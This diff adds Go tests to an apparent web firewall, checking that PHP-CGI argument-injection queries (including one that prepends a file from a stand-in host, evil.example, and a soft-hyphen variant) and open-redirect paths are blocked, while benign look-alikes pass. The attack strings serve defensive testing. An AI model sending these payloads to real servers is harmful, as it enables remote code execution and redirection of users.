@@ -831,6 +831,77 @@ func TestQueryAuthority(t *testing.T) {
 	}
 }
 
+// TestPHPCGIArgument: a query string that is a PHP command-line option,
+// which PHP-CGI takes as its arguments, blocks; queries that start with a
+// dash for another reason pass.
+func TestPHPCGIArgument(t *testing.T) {
+	eng := mustEngine(t, Config{})
+	tests := []struct {
+		target string
+		block  bool
+	}{
+		{"/index.php?-s", true},
+		{"/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dhttp://evil.example/x.txt", true},
+		{"/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", true},
+		{"/index.php?%2dd+allow_url_include%3d1", true},
+		// Benign twins.
+		{"/search?-price", false},
+		{"/sort?-created_at&limit=10", false},
+		{"/x?-d=1", false},
+		{"/x?a=1&-s", false},
+	}
+	for _, tc := range tests {
+		d, err := eng.Inspect(newReq("GET", "http://app.example.com"+tc.target, "", ""))
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, m := range d.Matches {
+			found = found || m.Rule == "rce-php-cgi-argument"
+		}
+		if found != tc.block || tc.block && !d.Blocked {
+			t.Errorf("%s: blocked %v %v, want %v", tc.target, d.Blocked, d.Matches, tc.block)
+		}
+	}
+}
+
+// TestPathRedirect: a redirect route whose last segment encodes another
+// site's URL, and a path that starts with another site's host then an
+// encoded or dot segment, block; routes with encoded slashes of the
+// site's own paths, and double slashes of a client's, pass.
+func TestPathRedirect(t *testing.T) {
+	eng := mustEngine(t, Config{})
+	tests := []struct {
+		target string
+		block  bool
+	}{
+		{"/redirect/%2F%2Fevil.example%2F", true},
+		{"/out/https:%2F%2Fevil.example", true},
+		{"/go/%5C%5Cevil.example", true},
+		{"//evil.example/%2e%2e", true},
+		{"//evil.example/..;/", true},
+		// Benign twins.
+		{"/redirect/%2Fcheckout%2Fdone", false},
+		{"/out/https:%2F%2Fapp.example.com%2Faccount", false},
+		{"/files/a%2Fb.txt", false},
+		{"//api/v1/users", false},
+		{"//app.example.com/%2e%2e", false},
+	}
+	for _, tc := range tests {
+		d, err := eng.Inspect(newReq("GET", "http://app.example.com"+tc.target, "", ""))
+		if err != nil {
+			t.Fatal(err)
+		}
+		found := false
+		for _, m := range d.Matches {
+			found = found || m.Rule == "redirect-open"
+		}
+		if found != tc.block || tc.block && !d.Blocked {
+			t.Errorf("%s: blocked %v %v, want %v", tc.target, d.Blocked, d.Matches, tc.block)
+		}
+	}
+}
+
 // TestScannerHeaders: the headers of WebInspect and Acunetix, and an
 // X-Scanner header naming a scanner, block; security headers a browser
 // or a CDN sends pass.
